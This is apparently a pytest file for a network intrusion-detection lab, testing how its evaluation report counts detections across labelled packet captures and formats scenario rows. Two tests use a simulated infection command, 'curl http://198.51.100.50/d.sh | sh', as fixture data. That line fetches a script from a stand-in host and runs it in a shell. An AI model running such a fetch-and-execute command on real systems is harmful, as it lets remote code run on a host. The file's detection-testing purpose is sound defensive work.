"""`python -m lab.evaluate`: the held-out list is the one its rule chooses, and the report (captures per
category, held-out apart, per detector) comes out of the command on a small labelled set. Whether each
capture meets the goal is tests/integration/test_labelled_captures.py's job."""

from __future__ import annotations

import csv
import re
import subprocess
import sys

from lab.evaluate import HOLDOUT_FILE, held_out_paths, is_held_out, label_rows, report
from lab.scenarios import ScenarioResult

from conftest import DATA, REPO


def test_the_held_out_list_is_what_its_rule_chooses():
    rows = label_rows(DATA)
    chosen = {row["path"] for row in rows if is_held_out(row["path"])}
    assert held_out_paths(HOLDOUT_FILE) == chosen
    assert 0.1 < len(chosen) / len(rows) < 0.4  # about a fifth
    assert {row["category"] for row in rows if row["path"] in chosen} >= {"benign", "c2", "dns_tunnel"}


def test_the_report_counts_each_category_and_shows_the_held_out_part_apart(tmp_path):
    """Three captures: a scan and a benign one in development, a scan held out (a listing of our own)."""
    rows = [r for r in label_rows(DATA) if r["path"] in (
        "pcaps/portscan/evilfingers_nmap_TCP_SYN_SCAN.pcap", "pcaps/benign/ndpi_git.pcap",
        "pcaps/portscan/evilfingers_nmap_FIN_SCAN.pcap")]
    data = tmp_path / "data"
    data.mkdir()
    with open(data / "labels.csv", "w", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        for row in rows:
            (data / row["path"]).parent.mkdir(parents=True, exist_ok=True)
            (data / row["path"]).symlink_to(DATA / row["path"])
            writer.writerow(row)
    held = tmp_path / "held.txt"
    held.write_text("# ours\npcaps/portscan/evilfingers_nmap_FIN_SCAN.pcap\n")
    out = tmp_path / "quality.md"
    run = subprocess.run([sys.executable, "-m", "lab.evaluate", "--data", str(data), "--holdout", str(held), "--out",
                          str(out), "--no-scenarios", "--benign-days", "0"], capture_output=True, text=True,
                         timeout=300, cwd=REPO)
    assert run.returncode == 0, run.stderr
    text = out.read_text()
    development = text.split("Per category, captures used in development:")[1].split("Per category, held-out")[0]
    held_out = text.split("Per category, held-out captures:")[1].split("Every capture:")[0]
    assert "| portscan | 1 | 1 of 1 | - |" in development and "| benign | 1 | - | 0 of 1 |" in development
    assert "| portscan | 1 | 1 of 1 | - |" in held_out and "| benign |" not in held_out
    assert "| pcaps/portscan/evilfingers_nmap_FIN_SCAN.pcap | yes | lab | portscan |" in text  # nothing public in it
    assert "| `port_scan` | `port_scan` | yes | 2 | 0 |" in text
    assert "Attack captures detected: 2 of 2" in text and "Benign captures with an alert: 0 of 1" in text


def test_a_scenario_with_either_of_two_types_and_a_shell_pipe_is_one_row_listed_as_missed():
    """A scenario expecting ``beaconing|unusual_destination`` whose tool is ``curl ... | sh``, scored
    with no alert: its row keeps the table's six columns and says missed."""
    missed = ScenarioResult("multi-stage", "curl http://198.51.100.50/d.sh | sh", "beaconing|unusual_destination",
                            actor_ip="10.77.0.2", bystanders=["10.77.0.3"])
    text = report([], "python -m lab.evaluate", [missed], None)
    row = next(line for line in text.splitlines() if line.startswith("| multi-stage |"))
    assert len(re.split(r"(?<!\\)\|", row)) == 8  # six cells between the pipes that are not escaped
    assert "| beaconing or unusual_destination | none | missed | 0 |" in row
    assert "| beaconing or unusual_destination | 1 | 0 | 0 |" in text
    assert "Scenarios detected: 0 of 1 run" in text


def test_a_scenario_whose_error_names_a_shell_pipe_is_one_row_listed_as_an_error():
    """The multi-stage infection's victim is ``sh -c 'curl ... | sh'``: an error that names that command (a
    timeout waiting for it) keeps the row's six columns, as its tool's pipe does."""
    failed = ScenarioResult("multi-stage", "curl http://198.51.100.50/d.sh | sh", "beaconing|unusual_destination",
                            error="TimeoutExpired: Command '['ip', 'netns', 'exec', 'ksab12c-web', 'sh', '-c', "
                                  "'curl -sf http://198.51.100.50/d.sh | sh']' timed out after 10 seconds")
    text = report([], "python -m lab.evaluate", [failed], None)
    row = next(line for line in text.splitlines() if line.startswith("| multi-stage |"))
    assert len(re.split(r"(?<!\\)\|", row)) == 8 and row.endswith("timed out after 10 seconds) | 0 |")
